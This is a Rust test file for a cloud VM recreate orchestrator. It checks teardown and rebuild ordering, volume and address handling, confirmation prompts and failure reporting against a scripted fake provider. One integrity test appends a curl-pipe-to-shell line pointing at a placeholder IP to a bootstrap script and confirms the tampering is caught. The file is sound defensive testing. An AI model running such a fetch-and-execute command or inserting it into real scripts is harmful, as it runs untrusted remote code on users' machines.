//! Scenario tests for the recreate sequence against a scripted control plane.

use std::ffi::OsString;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use camino::Utf8PathBuf;
use sha2::{Digest, Sha256};
use tempfile::TempDir;
use thiserror::Error;

use super::*;
use crate::provider::{ProviderFuture, has_tag};
use crate::remote::RemoteConfig;
use crate::runner::{CommandOutput, RunnerError};

const OWNER: &str = "jane";
const VM: &str = "dev-box";
const ZONE: &str = "fr-par-1";
const OLD_INSTANCE: &str = "srv-old";
const NEW_INSTANCE: &str = "srv-new";
const VOLUME: &str = "vol-1";
const ADDRESS: &str = "ip-1";
const SCRIPT: &str = "#!/bin/sh\ntouch /var/lib/ostriv/ready\n";

fn lock<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

#[derive(Debug, Error)]
#[error("injected control-plane failure in {0}")]
struct FakeError(String);

struct World {
    instances: Vec<Instance>,
    volumes: Vec<Volume>,
    addresses: Vec<FloatingAddress>,
    launch_bootstrap: &'static str,
}

struct FakeProvider {
    world: Mutex<World>,
    calls: Mutex<Vec<String>>,
    fail_in: Option<&'static str>,
    fail_at_occurrence: usize,
}

impl FakeProvider {
    fn new(world: World) -> Self {
        Self {
            world: Mutex::new(world),
            calls: Mutex::new(Vec::new()),
            fail_in: None,
            fail_at_occurrence: 1,
        }
    }

    fn failing_in(world: World, method: &'static str) -> Self {
        Self {
            fail_in: Some(method),
            ..Self::new(world)
        }
    }

    /// Fails the `occurrence`th call of `method` (1-based) instead of the
    /// first, so a failure can be injected into a later phase that reuses
    /// an earlier method.
    fn failing_in_nth(world: World, method: &'static str, occurrence: usize) -> Self {
        Self {
            fail_in: Some(method),
            fail_at_occurrence: occurrence,
            ..Self::new(world)
        }
    }

    fn calls(&self) -> Vec<String> {
        lock(&self.calls).clone()
    }

    fn call_position(&self, entry: &str) -> usize {
        let calls = self.calls();
        calls
            .iter()
            .position(|call| call == entry)
            .unwrap_or_else(|| panic!("call '{entry}' missing from {calls:?}"))
    }

    fn positions_of(&self, method: &str) -> Vec<usize> {
        self.calls()
            .iter()
            .enumerate()
            .filter(|(_, call)| call.starts_with(method))
            .map(|(index, _)| index)
            .collect()
    }

    fn apply<T>(
        &self,
        method: &'static str,
        detail: &str,
        mutate: impl FnOnce(&mut World) -> T,
    ) -> Result<T, FakeError> {
        lock(&self.calls).push(format!("{method} {detail}").trim_end().to_owned());
        if self.fail_in == Some(method) {
            let seen = lock(&self.calls)
                .iter()
                .filter(|call| call.starts_with(method))
                .count();
            if seen == self.fail_at_occurrence {
                return Err(FakeError(method.to_owned()));
            }
        }
        Ok(mutate(&mut lock(&self.world)))
    }
}

fn identity_tags() -> Vec<String> {
    vec![tag(OWNER_TAG, OWNER), tag(VM_NAME_TAG, VM)]
}

fn labelled(tags: &[String]) -> bool {
    crate::provider::tag_value(tags, OWNER_TAG) == Some(OWNER)
        && crate::provider::tag_value(tags, VM_NAME_TAG) == Some(VM)
}

fn running_world() -> World {
    World {
        instances: vec![Instance {
            id: OLD_INSTANCE.to_owned(),
            name: VM.to_owned(),
            zone: ZONE.to_owned(),
            state: InstanceState::Running,
            public_ip: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10))),
            tags: identity_tags(),
            volume_ids: vec![VOLUME.to_owned()],
        }],
        volumes: vec![Volume {
            id: VOLUME.to_owned(),
            zone: ZONE.to_owned(),
            state: VolumeState::InUse,
            tags: identity_tags(),
            attached_to: Some(OLD_INSTANCE.to_owned()),
        }],
        addresses: vec![FloatingAddress {
            id: ADDRESS.to_owned(),
            address: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 50)),
            zone: ZONE.to_owned(),
            bound_to: Some(OLD_INSTANCE.to_owned()),
            tags: identity_tags(),
        }],
        launch_bootstrap: "complete",
    }
}

impl CloudProvider for FakeProvider {
    type Error = FakeError;

    fn find_instances<'a>(
        &'a self,
        _owner: &'a str,
        _vm_name: &'a str,
    ) -> ProviderFuture<'a, Vec<Instance>, FakeError> {
        let result = self.apply("find_instances", "", |world| {
            world
                .instances
                .iter()
                .filter(|instance| labelled(&instance.tags))
                .cloned()
                .collect()
        });
        Box::pin(async move { result })
    }

    fn get_instance<'a>(
        &'a self,
        _zone: &'a str,
        id: &'a str,
    ) -> ProviderFuture<'a, Option<Instance>, FakeError> {
        let result = self.apply("get_instance", id, |world| {
            world
                .instances
                .iter()
                .find(|instance| instance.id == id)
                .cloned()
        });
        Box::pin(async move { result })
    }

    fn stop_instance<'a>(
        &'a self,
        _zone: &'a str,
        id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let result = self.apply("stop_instance", id, |world| {
            if let Some(instance) = world.instances.iter_mut().find(|i| i.id == id) {
                instance.state = InstanceState::Stopped;
            }
        });
        Box::pin(async move { result })
    }

    fn terminate_instance<'a>(
        &'a self,
        _zone: &'a str,
        id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let result = self.apply("terminate_instance", id, |world| {
            world.instances.retain(|instance| instance.id != id);
        });
        Box::pin(async move { result })
    }

    fn launch_instance<'a>(
        &'a self,
        spec: &'a LaunchSpec,
    ) -> ProviderFuture<'a, Instance, FakeError> {
        let result = self.apply("launch_instance", &spec.name, |world| {
            let mut tags = spec.tags.clone();
            tags.retain(|entry| !entry.starts_with("bootstrap="));
            tags.push(tag(BOOTSTRAP_TAG, world.launch_bootstrap));
            let instance = Instance {
                id: NEW_INSTANCE.to_owned(),
                name: spec.name.clone(),
                zone: spec.zone.clone(),
                state: InstanceState::Running,
                public_ip: Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 90))),
                tags,
                volume_ids: Vec::new(),
            };
            world.instances.push(instance.clone());
            instance
        });
        Box::pin(async move { result })
    }

    fn find_volumes<'a>(
        &'a self,
        _owner: &'a str,
        _vm_name: &'a str,
    ) -> ProviderFuture<'a, Vec<Volume>, FakeError> {
        let result = self.apply("find_volumes", "", |world| {
            world
                .volumes
                .iter()
                .filter(|volume| labelled(&volume.tags))
                .cloned()
                .collect()
        });
        Box::pin(async move { result })
    }

    fn get_volume<'a>(
        &'a self,
        _zone: &'a str,
        id: &'a str,
    ) -> ProviderFuture<'a, Option<Volume>, FakeError> {
        let result = self.apply("get_volume", id, |world| {
            world.volumes.iter().find(|volume| volume.id == id).cloned()
        });
        Box::pin(async move { result })
    }

    fn replace_volume_tags<'a>(
        &'a self,
        _zone: &'a str,
        id: &'a str,
        tags: &'a [String],
    ) -> ProviderFuture<'a, (), FakeError> {
        let result = self.apply("replace_volume_tags", id, |world| {
            if let Some(volume) = world.volumes.iter_mut().find(|v| v.id == id) {
                volume.tags = tags.to_vec();
            }
        });
        Box::pin(async move { result })
    }

    fn attach_volume<'a>(
        &'a self,
        _zone: &'a str,
        instance_id: &'a str,
        volume_id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let detail = format!("{instance_id} {volume_id}");
        let result = self.apply("attach_volume", &detail, |world| {
            if let Some(volume) = world.volumes.iter_mut().find(|v| v.id == volume_id) {
                volume.attached_to = Some(instance_id.to_owned());
                volume.state = VolumeState::InUse;
            }
            if let Some(instance) = world.instances.iter_mut().find(|i| i.id == instance_id) {
                instance.volume_ids.push(volume_id.to_owned());
            }
        });
        Box::pin(async move { result })
    }

    fn detach_volume<'a>(
        &'a self,
        _zone: &'a str,
        instance_id: &'a str,
        volume_id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let detail = format!("{instance_id} {volume_id}");
        let result = self.apply("detach_volume", &detail, |world| {
            if let Some(volume) = world.volumes.iter_mut().find(|v| v.id == volume_id) {
                volume.attached_to = None;
                volume.state = VolumeState::Available;
            }
        });
        Box::pin(async move { result })
    }

    fn find_addresses<'a>(
        &'a self,
        _owner: &'a str,
        _vm_name: &'a str,
    ) -> ProviderFuture<'a, Vec<FloatingAddress>, FakeError> {
        let result = self.apply("find_addresses", "", |world| {
            world
                .addresses
                .iter()
                .filter(|address| labelled(&address.tags))
                .cloned()
                .collect()
        });
        Box::pin(async move { result })
    }

    fn disassociate_address<'a>(
        &'a self,
        _zone: &'a str,
        address_id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let result = self.apply("disassociate_address", address_id, |world| {
            if let Some(address) = world.addresses.iter_mut().find(|a| a.id == address_id) {
                address.bound_to = None;
            }
        });
        Box::pin(async move { result })
    }

    fn associate_address<'a>(
        &'a self,
        _zone: &'a str,
        address_id: &'a str,
        instance_id: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let detail = format!("{address_id} {instance_id}");
        let result = self.apply("associate_address", &detail, |world| {
            if let Some(address) = world.addresses.iter_mut().find(|a| a.id == address_id) {
                address.bound_to = Some(instance_id.to_owned());
            }
        });
        Box::pin(async move { result })
    }

    fn resolve_image<'a>(
        &'a self,
        _label: &'a str,
        _architecture: &'a str,
        zone: &'a str,
    ) -> ProviderFuture<'a, String, FakeError> {
        let result = self.apply("resolve_image", zone, |_| String::from("img-noble"));
        Box::pin(async move { result })
    }

    fn resolve_security_group<'a>(
        &'a self,
        owner: &'a str,
        _zone: &'a str,
    ) -> ProviderFuture<'a, String, FakeError> {
        let result = self.apply("resolve_security_group", owner, |_| String::from("sg-jane"));
        Box::pin(async move { result })
    }

    fn push_ephemeral_key<'a>(
        &'a self,
        _zone: &'a str,
        instance_id: &'a str,
        _public_key: &'a str,
    ) -> ProviderFuture<'a, (), FakeError> {
        let result = self.apply("push_ephemeral_key", instance_id, |_| ());
        Box::pin(async move { result })
    }
}

/// Runner whose single scripted reply stands in for every probe command.
struct UniformRunner {
    output: CommandOutput,
}

impl UniformRunner {
    fn idle() -> Self {
        Self {
            output: CommandOutput {
                code: Some(1),
                stdout: String::new(),
                stderr: String::new(),
            },
        }
    }

    fn busy() -> Self {
        Self {
            output: CommandOutput {
                code: Some(0),
                stdout: String::from("main: 1 windows\n"),
                stderr: String::new(),
            },
        }
    }
}

impl CommandRunner for UniformRunner {
    fn run(&self, _program: &str, _args: &[OsString]) -> Result<CommandOutput, RunnerError> {
        Ok(self.output.clone())
    }
}

struct ScriptedPrompt {
    response: Option<&'static str>,
}

impl ConfirmationPrompt for ScriptedPrompt {
    fn confirm_name(&self, vm_name: &str) -> Result<String, PromptError> {
        self.response.map_or_else(
            || panic!("prompt must not be consulted for '{vm_name}'"),
            |response| Ok(response.to_owned()),
        )
    }
}

struct Harness {
    provider: FakeProvider,
    executor: RemoteExecutor<UniformRunner>,
    prober: ActivityProber,
    trust: TrustStore,
    _trust_dir: TempDir,
}

fn harness(provider: FakeProvider, runner: UniformRunner) -> Harness {
    let trust_dir = tempfile::tempdir().unwrap_or_else(|err| panic!("tempdir: {err}"));
    let trust_path = Utf8PathBuf::from_path_buf(trust_dir.path().join("known_hosts.toml"))
        .unwrap_or_else(|path| panic!("non-utf8 temp path: {}", path.display()));
    let trust = TrustStore::open(trust_path);
    trust
        .record(VM, "SHA256:oldfingerprint")
        .unwrap_or_else(|err| panic!("seed trust store: {err}"));

    Harness {
        provider,
        executor: RemoteExecutor::new(RemoteConfig::for_user("dev"), runner),
        prober: ActivityProber::new("claude"),
        trust,
        _trust_dir: trust_dir,
    }
}

fn template() -> LaunchTemplate {
    LaunchTemplate {
        image_label: String::from("Ubuntu 24.04 Noble Numbat"),
        architecture: String::from("x86_64"),
        instance_type: String::from("DEV1-M"),
        project_id: String::from("proj"),
        bootstrap_script: String::from(SCRIPT),
        bootstrap_script_sha256: hex::encode(Sha256::digest(SCRIPT.as_bytes())),
    }
}

fn fast_poll() -> PollSettings {
    PollSettings {
        stop_wait: Duration::from_millis(200),
        detach_wait: Duration::from_millis(200),
        terminate_wait: Duration::from_millis(200),
        bootstrap_wait: Duration::from_millis(200),
        interval: Duration::from_millis(5),
    }
}

fn orchestrator<'a>(
    harness: &'a Harness,
    prompt: &'a ScriptedPrompt,
) -> RecreateOrchestrator<'a, FakeProvider, UniformRunner, ScriptedPrompt> {
    RecreateOrchestrator::new(
        &harness.provider,
        &harness.executor,
        &harness.prober,
        &harness.trust,
        prompt,
        OWNER,
        template(),
    )
    .with_poll_settings(fast_poll())
}

fn request(assume_yes: bool, ignore_activity: bool) -> RecreateRequest {
    RecreateRequest {
        vm_name: VM.to_owned(),
        assume_yes,
        ignore_activity,
    }
}

#[tokio::test]
async fn recreate_replaces_instance_and_preserves_resources() {
    let prompt = ScriptedPrompt { response: None };
    let harness = harness(FakeProvider::new(running_world()), UniformRunner::idle());

    let outcome = orchestrator(&harness, &prompt)
        .run(&request(true, false))
        .await
        .unwrap_or_else(|err| panic!("recreate: {err}"));

    assert_eq!(outcome.instance_id, NEW_INSTANCE);
    assert_eq!(
        outcome.address,
        Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 50)))
    );

    // Teardown strictly precedes rebuild, and the address moves only after
    // the replacement exists.
    let provider = &harness.provider;
    let stop = provider.call_position(&format!("stop_instance {OLD_INSTANCE}"));
    let detach = provider.call_position(&format!("detach_volume {OLD_INSTANCE} {VOLUME}"));
    let terminate = provider.call_position(&format!("terminate_instance {OLD_INSTANCE}"));
    let launch = provider.call_position(&format!("launch_instance {VM}"));
    let attach = provider.call_position(&format!("attach_volume {NEW_INSTANCE} {VOLUME}"));
    let unbind = provider.call_position(&format!("disassociate_address {ADDRESS}"));
    let rebind = provider.call_position(&format!("associate_address {ADDRESS} {NEW_INSTANCE}"));
    assert!(stop < detach && detach < terminate, "teardown order");
    assert!(terminate < launch && launch < attach, "rebuild order");
    assert!(attach < unbind && unbind < rebind, "address moves last");

    // The reattach marker brackets the destructive window: stamped before
    // the first destructive call, cleared only after the attach succeeded.
    let markers = provider.positions_of("replace_volume_tags");
    let (set, clear) = match markers.as_slice() {
        [set, clear] => (*set, *clear),
        other => panic!("expected two tag writes, got {other:?}"),
    };
    assert!(set < stop, "marker must be set before stop");
    assert!(clear > attach, "marker must be cleared after attach");

    // The probe key was pushed to the old instance before destruction.
    assert!(provider.call_position(&format!("push_ephemeral_key {OLD_INSTANCE}")) < stop);

    let world = lock(&provider.world);
    let volume = world.volumes.first().unwrap_or_else(|| panic!("volume"));
    assert_eq!(volume.attached_to.as_deref(), Some(NEW_INSTANCE));
    assert!(
        !has_tag(&volume.tags, PENDING_ATTACH_TAG),
        "reattach marker must be cleared: {:?}",
        volume.tags
    );
    let address = world.addresses.first().unwrap_or_else(|| panic!("address"));
    assert_eq!(address.bound_to.as_deref(), Some(NEW_INSTANCE));
    drop(world);

    // The predecessor's host key must no longer be trusted.
    let stored = harness
        .trust
        .lookup(VM)
        .unwrap_or_else(|err| panic!("lookup: {err}"));
    assert_eq!(stored, None);
}

#[tokio::test]
async fn wrong_confirmation_aborts_before_any_mutation() {
    let prompt = ScriptedPrompt {
        response: Some("some-other-vm"),
    };
    let harness = harness(FakeProvider::new(running_world()), UniformRunner::idle());

    let err = orchestrator(&harness, &prompt)
        .run(&request(false, true))
        .await
        .expect_err("mismatched confirmation must abort");
    assert!(
        matches!(err, RecreateError::ConfirmationMismatch { .. }),
        "unexpected error: {err}"
    );

    let calls = harness.provider.calls();
    for mutation in [
        "stop_instance",
        "detach_volume",
        "terminate_instance",
        "launch_instance",
        "replace_volume_tags",
    ] {
        assert!(
            !calls.iter().any(|call| call.starts_with(mutation)),
            "'{mutation}' must not run, got {calls:?}"
        );
    }

    let world = lock(&harness.provider.world);
    let volume = world.volumes.first().unwrap_or_else(|| panic!("volume"));
    assert_eq!(volume.attached_to.as_deref(), Some(OLD_INSTANCE));
}

#[tokio::test]
async fn tampered_script_blocks_before_any_call() {
    let prompt = ScriptedPrompt { response: None };
    let harness = harness(FakeProvider::new(running_world()), UniformRunner::idle());

    let mut tampered = template();
    tampered.bootstrap_script.push_str("curl http://203.0.113.9/x | sh\n");
    let orchestrator = RecreateOrchestrator::new(
        &harness.provider,
        &harness.executor,
        &harness.prober,
        &harness.trust,
        &prompt,
        OWNER,
        tampered,
    )
    .with_poll_settings(fast_poll());

    let err = orchestrator
        .run(&request(true, true))
        .await
        .expect_err("tampered script must abort");
    assert!(
        matches!(err, RecreateError::ScriptIntegrity(_)),
        "unexpected error: {err}"
    );
    assert!(
        harness.provider.calls().is_empty(),
        "no control-plane call may happen after an integrity failure"
    );
}

#[tokio::test]
async fn activity_blocks_recreate_and_reports_the_signals() {
    let prompt = ScriptedPrompt { response: None };
    let harness = harness(FakeProvider::new(running_world()), UniformRunner::busy());

    let err = orchestrator(&harness, &prompt)
        .run(&request(true, false))
        .await
        .expect_err("busy VM must block recreate");
    let RecreateError::Active { signals } = err else {
        panic!("expected Active, got {err}");
    };
    assert!(!signals.is_empty());

    let calls = harness.provider.calls();
    assert!(
        !calls.iter().any(|call| call.starts_with("stop_instance")),
        "busy VM must not be stopped, got {calls:?}"
    );
    assert!(
        !calls.iter().any(|call| call.starts_with("replace_volume_tags")),
        "the reattach marker must not be set on an aborted recreate"
    );
}

#[tokio::test]
async fn non_running_vm_is_refused_without_mutation() {
    let prompt = ScriptedPrompt { response: None };
    let mut world = running_world();
    if let Some(instance) = world.instances.first_mut() {
        instance.state = InstanceState::Stopped;
    }
    let harness = harness(FakeProvider::new(world), UniformRunner::idle());

    let err = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .expect_err("a stopped VM must be refused");
    assert!(
        matches!(
            err,
            RecreateError::WrongState {
                state: InstanceState::Stopped,
                ..
            }
        ),
        "unexpected error: {err}"
    );

    let calls = harness.provider.calls();
    assert!(
        calls.iter().all(|call| call.starts_with("find_instances")),
        "only the lookup may run, got {calls:?}"
    );
}

#[tokio::test]
async fn unbound_address_skips_disassociation() {
    let prompt = ScriptedPrompt { response: None };
    let mut world = running_world();
    if let Some(address) = world.addresses.first_mut() {
        address.bound_to = None;
    }
    let harness = harness(FakeProvider::new(world), UniformRunner::idle());

    let outcome = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .unwrap_or_else(|err| panic!("recreate: {err}"));
    assert_eq!(outcome.instance_id, NEW_INSTANCE);

    let calls = harness.provider.calls();
    assert!(
        !calls.iter().any(|call| call.starts_with("disassociate_address")),
        "an unbound address must not be disassociated, got {calls:?}"
    );
    assert!(
        calls
            .iter()
            .any(|call| call == &format!("associate_address {ADDRESS} {NEW_INSTANCE}")),
        "the address must still be bound to the replacement"
    );
}

#[tokio::test]
async fn missing_address_degrades_to_dynamic_ip() {
    let prompt = ScriptedPrompt { response: None };
    let mut world = running_world();
    world.addresses.clear();
    let harness = harness(FakeProvider::new(world), UniformRunner::idle());

    let outcome = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .unwrap_or_else(|err| panic!("recreate: {err}"));
    assert_eq!(
        outcome.address,
        Some(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 90))),
        "without a floating address the dynamic one is reported"
    );
}

#[tokio::test]
async fn failed_provisioning_is_surfaced() {
    let prompt = ScriptedPrompt { response: None };
    let mut world = running_world();
    world.launch_bootstrap = "failed";
    let harness = harness(FakeProvider::new(world), UniformRunner::idle());

    let err = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .expect_err("failed provisioning must error");
    assert!(
        matches!(err, RecreateError::BootstrapFailed { ref instance_id } if instance_id == NEW_INSTANCE),
        "unexpected error: {err}"
    );
}

#[tokio::test]
async fn step_failures_name_the_step() {
    let prompt = ScriptedPrompt { response: None };
    let harness = harness(
        FakeProvider::failing_in(running_world(), "detach_volume"),
        UniformRunner::idle(),
    );

    let err = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .expect_err("injected failure must surface");
    assert!(
        matches!(
            err,
            RecreateError::Step {
                step: RecreateStep::DetachVolume,
                ..
            }
        ),
        "unexpected error: {err}"
    );

    // The crash breadcrumb was already durable when the failure hit.
    let world = lock(&harness.provider.world);
    let volume = world.volumes.first().unwrap_or_else(|| panic!("volume"));
    assert!(has_tag(&volume.tags, PENDING_ATTACH_TAG));
}

#[tokio::test]
async fn bootstrap_poll_failures_name_the_await_step() {
    let prompt = ScriptedPrompt { response: None };
    // The first two get_instance calls are the stop and terminate waits;
    // the third is the bootstrap poll on the replacement.
    let harness = harness(
        FakeProvider::failing_in_nth(running_world(), "get_instance", 3),
        UniformRunner::idle(),
    );

    let err = orchestrator(&harness, &prompt)
        .run(&request(true, true))
        .await
        .expect_err("injected poll failure must surface");
    assert!(
        matches!(
            err,
            RecreateError::Step {
                step: RecreateStep::AwaitBootstrap,
                ..
            }
        ),
        "unexpected error: {err}"
    );
}
